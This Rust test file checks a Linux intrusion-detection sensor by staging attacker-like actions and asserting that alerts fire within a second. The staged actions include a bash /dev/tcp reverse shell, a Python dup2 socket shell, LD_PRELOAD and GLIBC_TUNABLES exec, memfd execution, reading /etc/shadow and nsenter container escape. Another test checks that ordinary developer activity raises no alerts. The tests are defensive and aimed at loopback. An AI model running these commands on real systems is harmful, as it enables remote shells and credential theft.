//! Privileged end-to-end tests of detection: real attacker-like actions on
//! this machine raise the expected alert within a second (measured from
//! the end of the action to the alert line in the alerts-only output), kill
//! rules kill, and ordinary build, git and package activity raises none.

mod common;

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{docker, privileged, sh, unique, Finished, Running, BIN};
use serde_json::Value;

/// A run with the default rules and an alerts-only output to poll.
struct Watch {
    run: Running,
    alerts: PathBuf,
    _dir: tempfile::TempDir,
}

impl Watch {
    fn start(extra: &[&str]) -> Watch {
        let dir = tempfile::tempdir().unwrap();
        let alerts = dir.path().join("alerts.jsonl");
        let spec = format!("jsonl:alerts={}", alerts.display());
        let mut args = vec!["--output", spec.as_str()];
        args.extend_from_slice(extra);
        let run = Running::start(&args);
        Watch { run, alerts, _dir: dir }
    }

    fn alerts(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.alerts)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// Stops the run (its outputs flushed): every alert it wrote, and how
    /// it ended.
    fn stop(self) -> (Vec<Value>, Finished) {
        let Watch { run, alerts, _dir } = self;
        let finished = run.stop();
        let text = std::fs::read_to_string(&alerts).unwrap_or_default();
        (text.lines().map(|l| serde_json::from_str(l).unwrap()).collect(), finished)
    }

    /// Waits up to `within` for an alert of `rule` matching `pred`.
    fn wait_for(&self, rule: &str, within: Duration, pred: impl Fn(&Value) -> bool) -> (Value, Duration) {
        let start = Instant::now();
        loop {
            if let Some(a) = self.alerts().into_iter().find(|a| a["rule"]["id"] == rule && pred(a)) {
                return (a, start.elapsed());
            }
            if start.elapsed() > within {
                let alerts = self.alerts();
                let seen: Vec<String> = alerts.iter().map(|a| a["rule"]["id"].to_string()).collect();
                let near: Vec<&Value> = alerts.iter().filter(|a| a["rule"]["id"] == rule).collect();
                panic!(
                    "no `{rule}` alert as expected within {within:?}; alerts seen: {seen:?}; of that rule: {near:#?}"
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// The alert of `rule` for an action, raised within one second.
fn expect_within_a_second(w: &Watch, rule: &str, pred: impl Fn(&Value) -> bool) -> Value {
    let (alert, latency) = w.wait_for(rule, Duration::from_secs(5), pred);
    assert!(latency <= Duration::from_secs(1), "`{rule}` took {latency:?}");
    assert_eq!(alert["kind"], "alert");
    assert!(!alert["mitre"].as_array().unwrap().is_empty(), "{alert}");
    assert!(alert["time"].as_str().unwrap().ends_with('Z'));
    assert!(alert["process"]["pid"].as_u64().unwrap() > 0);
    assert!(!alert["events"].as_array().unwrap().is_empty());
    assert_eq!(alert["action"]["type"], "alert");
    alert
}

/// Runs `script` outside this test's process lineage (`setsid -f`: the
/// shell is re-parented to init), as an intruder's commands would run, so
/// rule exceptions for build tools (cargo runs the tests) do not apply.
/// Waits for it to finish.
fn detached(script: &str) {
    let dir = work_dir();
    let done = dir.path().join("done");
    let status = dir.path().join("status");
    let wrapped = format!("sleep 0.3; ( {script} ); echo $? > {}; echo > {}", status.display(), done.display());
    sh(&format!("setsid -f sh -c '{}' </dev/null >/dev/null 2>&1", wrapped.replace('\'', "'\\''")));
    let deadline = Instant::now() + Duration::from_secs(180);
    while !done.exists() {
        assert!(Instant::now() < deadline, "detached script did not finish: {script}");
        std::thread::sleep(Duration::from_millis(20));
    }
    let code = std::fs::read_to_string(&status).unwrap();
    assert_eq!(code.trim(), "0", "detached script failed: {script}");
}

fn cmdline(a: &Value) -> String {
    a["process"]["cmdline"].as_str().unwrap_or("").to_string()
}

/// A loopback listener playing the attacker: it sends `commands` to the
/// first shell that connects and returns what came back.
fn shell_listener(commands: &'static str) -> (u16, std::thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        conn.write_all(commands.as_bytes()).unwrap();
        let mut out = String::new();
        let _ = conn.read_to_string(&mut out);
        out
    });
    (port, server)
}

#[test]
fn loopback_reverse_shell_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let (port, server) = shell_listener("echo pn-reverse-shell-ok\nexit\n");
    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let status = Command::new("timeout").args(["10", "bash", "-c", &script]).status().unwrap();
    let transcript = server.join().unwrap();
    assert!(status.success(), "{status}");
    assert!(transcript.contains("pn-reverse-shell-ok"), "the shell really ran over the socket: {transcript:?}");
    let alert = expect_within_a_second(&w, "reverse_shell_dev_tcp", |a| cmdline(a).contains(&format!("/{port}")));
    assert_eq!(alert["severity"], "critical", "{alert}");
    assert!(alert["container"].is_null());
    // The `bash -i` the redirection started runs with the socket as its
    // standard streams: the kernel's view of its descriptors says so too.
    let alert = expect_within_a_second(&w, "shell_with_network_stdio", |a| cmdline(a) == "bash -i");
    let exec = &alert["events"][0]["exec"];
    assert_eq!((&exec["stdin"], &exec["stdout"], &exec["stderr"]), (&"inet".into(), &"inet".into(), &"inet".into()));
    w.run.stop();
}

/// A socket handed to a plain `sh` (no telltale command line, as an
/// exploit's dup2 + execve would): only the descriptors give it away.
#[test]
fn shell_on_a_socket_is_detected_from_its_descriptors() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let (port, server) = shell_listener("echo pn-dup2-shell-ok\nexit\n");
    let code = format!(
        "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n\
         for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nos.execv('/bin/sh', ['sh'])"
    );
    let status = Command::new("timeout").args(["10", "/usr/bin/python3", "-c", &code]).status().unwrap();
    let transcript = server.join().unwrap();
    assert!(status.success(), "{status}");
    assert!(transcript.contains("pn-dup2-shell-ok"), "the shell really ran over the socket: {transcript:?}");
    let alert = expect_within_a_second(&w, "shell_with_network_stdio", |a| cmdline(a) == "sh");
    assert_eq!(alert["events"][0]["exec"]["stdin"], "inet", "{alert}");
    assert_eq!(alert["severity"], "critical");
    w.run.stop();
}

/// A program deletes the file it runs from (busybox's rm applet runs in
/// the busybox process itself): `$event.process.exe` compared in a rule.
#[test]
fn a_process_deleting_its_own_executable_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let dir = work_dir();
    let copy = dir.path().join("busybox");
    std::fs::copy("/bin/busybox", &copy).unwrap();
    let status = Command::new(&copy).arg("rm").arg(&copy).status().unwrap();
    assert!(status.success() && !copy.exists(), "{status}");
    let exe = copy.display().to_string();
    let alert = expect_within_a_second(&w, "process_deleted_its_own_executable", |a| a["process"]["exe"] == exe);
    assert_eq!(alert["events"][0]["file"]["path"], exe.as_str());
    w.run.stop();
}

/// The environment a program starts with, read by the kernel at exec:
/// a library preload, and loader variables handed to a set-user-ID
/// program by an unprivileged user (the Looney Tunables pattern). Other
/// variables never reach the events.
#[test]
fn loader_variables_at_exec_are_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let dir = work_dir();
    let lib = dir.path().join("libpn-hook.so");
    let secret = unique("secret");
    // The library does not exist: ld.so warns and runs the program anyway.
    let status = Command::new("/bin/true")
        .env("LD_PRELOAD", &lib)
        .env("PN_TEST_SECRET", &secret)
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let lib = lib.display().to_string();
    let alert = expect_within_a_second(&w, "exec_with_ld_preload", |a| {
        a["events"][0]["exec"]["env"]["LD_PRELOAD"] == lib.as_str()
    });
    assert!(!alert.to_string().contains(&secret), "only listed variables are kept: {alert}");
    // nobody runs the set-user-ID passwd with GLIBC_TUNABLES set.
    let status = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "env"])
        .arg("GLIBC_TUNABLES=glibc.malloc.mxfast=1")
        .args(["/usr/bin/passwd", "-S"])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "{status}");
    let alert =
        expect_within_a_second(&w, "setuid_exec_with_loader_variables", |a| a["process"]["exe"] == "/usr/bin/passwd");
    assert_eq!(alert["process"]["uid"], 65534, "{alert}");
    assert_eq!(alert["events"][0]["process"]["euid"], 0, "{alert}");
    w.run.stop();
}

#[test]
fn memfd_execution_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let tag = unique("memfd");
    let code = format!(
        "import os\nfd = os.memfd_create('{tag}')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv(f'/proc/self/fd/{{fd}}', ['{tag}'])"
    );
    let status = Command::new("/usr/bin/python3").arg("-c").arg(&code).status().unwrap();
    assert!(status.success());
    let alert = expect_within_a_second(&w, "exec_memfd", |a| {
        a["events"][0]["exec"]["file"].as_str().is_some_and(|f| f.contains(&tag))
    });
    assert_eq!(alert["events"][0]["exec"]["memfd"], true);
    w.run.stop();
}

#[test]
fn cron_d_write_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let path = format!("/etc/cron.d/{}", unique("cron"));
    detached(&format!("mkdir -p /etc/cron.d && echo '* * * * * root true' > {path}; rm -f {path}"));
    let alert = expect_within_a_second(&w, "cron_file_written", |a| a["message"].as_str().unwrap().contains(&path));
    assert_eq!(alert["events"][0]["file"]["path"], path.as_str());
    w.run.stop();
}

#[test]
fn shadow_read_by_an_odd_process_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let copy = std::env::temp_dir().join(unique("reader"));
    std::fs::copy("/bin/cat", &copy).unwrap();
    detached(&format!("{} /etc/shadow >/dev/null", copy.display()));
    let exe = copy.display().to_string();
    let alert =
        expect_within_a_second(&w, "shadow_file_read_by_unusual_process", |a| a["process"]["exe"] == exe.as_str());
    assert_eq!(alert["events"][0]["file"]["path"], "/etc/shadow");
    std::fs::remove_file(&copy).unwrap();
    w.run.stop();
}

#[test]
fn setuid_chmod_is_detected() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let file = std::env::temp_dir().join(unique("suid"));
    std::fs::copy("/bin/true", &file).unwrap();
    detached(&format!("chmod u+s {}", file.display()));
    let path = file.display().to_string();
    let alert =
        expect_within_a_second(&w, "setuid_setgid_bit_set", |a| a["events"][0]["file"]["path"] == path.as_str());
    assert_eq!(alert["events"][0]["file"]["mode_octal"].as_str().map(|m| m.contains("4")), Some(true));
    std::fs::remove_file(&file).unwrap();
    w.run.stop();
}

const SOCKET: &str = common::DOCKER_SOCKET;
const IMAGE: &str = common::DOCKER_IMAGE;

#[test]
fn nsenter_in_a_container_is_detected_with_the_container() {
    if !privileged() || !docker() {
        return;
    }
    let w = Watch::start(&["--docker-socket", SOCKET]);
    let name = unique("escape");
    let out = Command::new("docker")
        .args(["-H", &format!("unix://{SOCKET}"), "run", "--rm", "--name", &name, "--network", "none", "--pid", "host"])
        .args(["--cap-add", "SYS_ADMIN", "--cap-add", "SYS_PTRACE", "--security-opt", "seccomp=unconfined"])
        .args([IMAGE, "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "true"])
        .output()
        .unwrap();
    // Whether the join succeeds depends on the host's LSMs; the attempt is what is detected.
    eprintln!("nsenter in container: {} {}", out.status, String::from_utf8_lossy(&out.stderr));
    let alert =
        expect_within_a_second(&w, "container_escape_tool_executed", |a| a["container"]["name"] == name.as_str());
    assert_eq!(alert["container"]["image"], IMAGE);
    assert_eq!(alert["container"]["runtime"], "docker");
    w.run.stop();
}

/// A kill rule the kernel decides (exact file) and one it cannot (an extra
/// condition on the uid): both processes die and the alerts say who killed.
#[test]
fn kill_rules_kill_in_the_kernel_and_from_user_space() {
    if !privileged() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let kernel_target = dir.path().join("kernel-target");
    let user_target = dir.path().join("user-target");
    std::fs::copy("/bin/sleep", &kernel_target).unwrap();
    std::fs::copy("/bin/sleep", &user_target).unwrap();
    let rules = dir.path().join("kill.yml");
    std::fs::write(
        &rules,
        format!(
            "- rule: kill_in_kernel\n  condition: kind == exec and exec.file == {}\n  action: kill\n  severity: critical\n  mitre: [T1059]\n\
             - rule: kill_from_user_space\n  condition: kind == exec and exec.file == {} and process.uid == 0\n  action: kill\n  severity: critical\n  mitre: [T1059]\n",
            kernel_target.display(),
            user_target.display()
        ),
    )
    .unwrap();
    let w = Watch::start(&["--rules", rules.to_str().unwrap()]);
    let started = Instant::now();
    let status = Command::new(&kernel_target).arg("30").status().unwrap();
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(libc::SIGKILL), "killed at exec");
    assert!(started.elapsed() < Duration::from_secs(2));
    let (a, _) = w.wait_for("kill_in_kernel", Duration::from_secs(5), |_| true);
    assert_eq!(a["action"], serde_json::json!({"type": "kill", "by": "kernel", "ok": true, "error": null}));
    assert_eq!(a["events"][0]["exec"]["killed"], true);

    let started = Instant::now();
    let status = Command::new(&user_target).arg("30").status().unwrap();
    assert_eq!(status.signal(), Some(libc::SIGKILL), "killed from user space");
    assert!(started.elapsed() < Duration::from_secs(2), "{:?}", started.elapsed());
    let (a, _) = w.wait_for("kill_from_user_space", Duration::from_secs(5), |_| true);
    assert_eq!(a["action"]["by"], "user_space");
    assert_eq!(a["action"]["ok"], true, "{a}");
    let out = w.run.stop();
    assert!(out.stderr.contains("kill rule decided in the kernel at exec"), "{}", out.stderr);
}

/// Ordinary developer and admin activity: compiling, git, package queries,
/// make, a Python venv, running freshly built and unpacked programs (outside
/// temp dirs), key generation, system and network queries, file moves and
/// ownership changes. Tools this machine lacks are skipped.
fn ordinary_activity(dir: &Path) {
    let d = dir.display();
    let script = format!(
        "set -e; cd {d}
         printf '#include <stdio.h>\\nint main(void){{puts(\"hi\");return 0;}}\\n' > hello.c
         cc -O2 -o hello hello.c && ./hello >/dev/null
         git init -q repo && cd repo && git config user.email t@example.invalid && git config user.name t
         echo a > a.txt && git add a.txt && git commit -qm first && git log --oneline >/dev/null && git status >/dev/null
         cd {d}
         dpkg-query -W -f '${{Package}}\\n' >/dev/null
         apt-cache policy bash >/dev/null
         ls -la /etc >/dev/null; ps aux >/dev/null; uname -a >/dev/null; id >/dev/null
         sed -i s/a/b/ repo/a.txt; tar czf x.tgz repo; rm -rf repo x.tgz hello hello.c
         set +e
         env -i PATH=\"$PATH\" bash -c 'echo ~ >/dev/null; python3 -c \"print(1)\"; id -un >/dev/null'
         printf 'all:\\n\\techo built > out.txt\\n' > Makefile; make -s
         python3 -c 'print(1)'; python3 -m venv venv && ./venv/bin/python -c 'import sys'
         printf '#!/bin/sh\\necho hi\\n' > s.sh; chmod +x s.sh; ./s.sh
         mkdir -p pkg/bin; cp /bin/true pkg/bin/tool; tar czf pkg.tgz pkg; rm -rf pkg; tar xzf pkg.tgz; ./pkg/bin/tool
         ssh-keygen -q -t ed25519 -N '' -f ./k; openssl rand -hex 8; base64 s.sh | base64 -d
         crontab -l; ip addr; ss -tln; sysctl -a; dmesg; env; mount; df -h; free -m; uptime; w; hostname; whoami
         find /etc -name '*.conf'; grep -r root /etc/passwd; awk -F: '{{print $1}}' /etc/passwd | sort | xargs echo
         apt-get -s install hello; dpkg -L bash; update-alternatives --display editor
         ln -s s.sh link; mv link link2; cp -a s.sh s2.sh; chmod 640 s2.sh; chown root:root s2.sh
         rm -rf Makefile out.txt venv s.sh s2.sh link2 pkg pkg.tgz k k.pub"
    );
    detached(&script);
}

/// The activity really ran under the sensor: an exec in `dir` of each of
/// its programs that this machine has (by argv[0]).
fn assert_activity_seen(events: &[Value], dir: &Path) {
    let d = dir.display().to_string();
    let ran: BTreeSet<String> = events
        .iter()
        .filter(|e| e["kind"] == "exec" && e["process"]["cwd"].as_str().is_some_and(|c| c.starts_with(&d)))
        .filter_map(|e| e["process"]["cmdline"].as_str()?.split(' ').next().map(str::to_owned))
        .map(|argv0| argv0.rsplit('/').next().unwrap_or_default().to_owned())
        .collect();
    let programs = [
        "cc",
        "git",
        "dpkg-query",
        "apt-cache",
        "ps",
        "tar",
        "sed",
        "make",
        "python3",
        "ssh-keygen",
        "openssl",
        "crontab",
        "ip",
        "ss",
        "sysctl",
        "find",
        "awk",
        "apt-get",
        "update-alternatives",
        "chown",
    ];
    let on_path =
        |p: &str| std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()).any(|d| d.join(p).exists());
    let missing: Vec<&str> = programs.iter().copied().filter(|p| on_path(p) && !ran.contains(*p)).collect();
    assert!(missing.is_empty(), "activity not seen: {missing:?}; seen: {ran:?}");
    // A shell without HOME (as cron and service managers start them) looks
    // its user up, and glibc first tries nscd's Unix socket: a connect that
    // is no network connection.
    let unix_connect = events.iter().any(|e| {
        e["kind"] == "net_connect"
            && e["net"]["addr"]["family"] == "unix"
            && e["process"]["cwd"].as_str().is_some_and(|c| c.starts_with(&d))
    });
    assert!(unix_connect, "no Unix-socket connect seen from the activity");
}

/// A scratch directory outside any temp directory (running a binary from
/// /tmp is itself an alert, and the clone may live under /tmp) whose name
/// is not hidden (`.tmpXXXX` trips hidden-path rules).
fn work_dir() -> tempfile::TempDir {
    let base = Path::new("/var/lib/panoptes-test");
    std::fs::create_dir_all(base).unwrap();
    tempfile::Builder::new().prefix("pn-e2e-").tempdir_in(base).unwrap()
}

/// Alerts raised by the activity: its processes run in `dir` (the script
/// starts with `cd`). The harness (the test binary, the detaching
/// wrapper), other tests and the machine's own activity are left out.
fn activity_alerts(alerts: Vec<Value>, dir: &Path) -> Vec<Value> {
    let d = dir.display().to_string();
    alerts.into_iter().filter(|a| a["process"]["cwd"].as_str().is_some_and(|c| c.starts_with(&d))).collect()
}

#[test]
fn ordinary_activity_raises_no_alerts() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let dir = work_dir();
    ordinary_activity(dir.path());
    // Late events still reach the rules: the run drains as it stops.
    std::thread::sleep(Duration::from_millis(500));
    let (alerts, out) = w.stop();
    assert_activity_seen(&out.events, dir.path());
    let mine = activity_alerts(alerts, dir.path());
    let ids: Vec<String> = mine.iter().map(|a| format!("{} {}", a["rule"]["id"], a["message"])).collect();
    assert!(mine.is_empty(), "alerts on ordinary activity: {ids:#?}");
}

/// With the converted Sigma rules loaded too, the same activity does not
/// flood: a handful of alerts at most (each named in the failure).
#[test]
fn sigma_rules_do_not_flood_on_ordinary_activity() {
    if !privileged() {
        return;
    }
    let sigma = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/testdata/sigma/rules/linux");
    let w = Watch::start(&["--rules", sigma.to_str().unwrap()]);
    let dir = work_dir();
    ordinary_activity(dir.path());
    std::thread::sleep(Duration::from_millis(500));
    let (alerts, out) = w.stop();
    assert_activity_seen(&out.events, dir.path());
    let mine = activity_alerts(alerts, dir.path());
    let ids: Vec<String> = mine.iter().map(|a| format!("{} {}", a["rule"]["id"], a["process"]["cmdline"])).collect();
    eprintln!("sigma alerts on ordinary activity: {ids:#?}");
    assert!(mine.len() <= 5, "flood: {} alerts: {ids:#?}", mine.len());
    // An imported rule's alert credits its author.
    for a in &mine {
        assert!(
            a["rule"]["source"].as_str().unwrap().starts_with("sigma:")
                || a["rule"]["source"].as_str().unwrap().starts_with("defaults/")
        );
    }
    assert!(out.stderr.contains("rules loaded"), "{}", out.stderr);
}

#[test]
fn replay_of_a_recording_raises_the_same_alerts_and_never_kills() {
    if !privileged() {
        return;
    }
    let w = Watch::start(&[]);
    let file = std::env::temp_dir().join(unique("suid"));
    std::fs::copy("/bin/true", &file).unwrap();
    detached(&format!("chmod 4755 {}", file.display()));
    let path = file.display().to_string();
    w.wait_for("setuid_setgid_bit_set", Duration::from_secs(5), |a| a["events"][0]["file"]["path"] == path.as_str());
    std::fs::remove_file(&file).unwrap();
    w.run.stop();
    // The alert carries the recorded event: replay it (and a line that is not an event).
    let dir = tempfile::tempdir().unwrap();
    let rec = dir.path().join("rec.jsonl");
    let alert_lines = std::fs::read_to_string(&w.alerts).unwrap();
    let alert: Value = serde_json::from_str(
        alert_lines.lines().find(|l| l.contains("setuid_setgid_bit_set") && l.contains(&path)).unwrap(),
    )
    .unwrap();
    let mut f = std::fs::File::create(&rec).unwrap();
    writeln!(f, "{}", alert["events"][0]).unwrap();
    writeln!(f, "not json").unwrap();
    drop(f);
    let out = Command::new(BIN).args(["replay", rec.to_str().unwrap(), "--output", "jsonl=-"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let lines: Vec<Value> =
        BufReader::new(&out.stdout[..]).lines().map(|l| serde_json::from_str(&l.unwrap()).unwrap()).collect();
    assert!(lines.iter().any(|a| a["kind"] == "alert" && a["rule"]["id"] == "setuid_setgid_bit_set"), "{lines:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("decode") && stderr.contains("rules:"), "{stderr}");
}
